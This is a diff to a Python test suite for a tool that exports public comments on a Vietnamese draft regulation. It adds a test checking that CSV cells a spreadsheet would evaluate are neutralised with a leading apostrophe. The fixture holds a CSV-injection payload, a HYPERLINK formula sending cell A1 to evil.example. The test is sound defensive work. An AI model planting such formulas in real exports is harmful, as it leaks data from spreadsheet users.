@@ -57,9 +57,14 @@ PUBLIC = [
      "received": "2025-07-03T14:00:00+07:00"},
     {"author_name": "Trần Thị Bình", "on": "general", "text": "Ủng hộ dự thảo, đề nghị sớm ban hành.",
      "received": "2025-07-04"},
+    # What a spreadsheet would run as a formula (CSV injection, issue 11).
+    {"author_name": "@Lê Văn Cường", "on": "art_3",
+     "text": '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
+     "proposal": "- Bộ Xây dựng chủ trì;\n- Bộ Tài chính phối hợp.",
+     "received": "2025-07-05T16:00:00+07:00"},
 ]
 
-IDS = ["most-1", "mof-1", "hanoi-1", "most-2", "hanoi-2", "mof-2", "most-3", "pub-1", "pub-2"]
+IDS = ["most-1", "mof-1", "hanoi-1", "most-2", "hanoi-2", "mof-2", "most-3", "pub-1", "pub-2", "pub-3"]
 
 
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
@@ -165,6 +170,23 @@ class ReportTest(clitest.TestCase):
         self.assertEqual(len(rows[0]), 12)
         self.assertEqual(sorted(row[4] for row in rows[1:]), sorted(IDS))
         self.assertEqual([row[0] for row in rows[1:]], [str(i) for i in range(1, len(IDS) + 1)])
+
+    def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(self):
+        r = self.report("--format", "csv")
+        self.assertExit(r, 0)
+        import csv
+        import io
+        rows = list(csv.reader(io.StringIO(r.out.lstrip("\ufeff"), newline="")))
+        row = [x for x in rows if x[4] == "pub-3"][0]
+        self.assertEqual(row[5], "'@Lê Văn Cường")
+        self.assertEqual(row[6], "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Xem chi tiết\")")
+        self.assertEqual(row[7], "'- Bộ Xây dựng chủ trì;\n- Bộ Tài chính phối hợp.")
+        # no cell of the whole file begins with what Excel or LibreOffice evaluates
+        for row in rows:
+            for cell in row:
+                self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r"), repr(cell))
+        # and each neutralised cell is quoted in the file
+        self.assertIn(',"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem chi tiết"")",', r.out)
 
     def test_csv_on_stdout(self):
         r = run("-C", self.repo, "report", "--format", "csv")
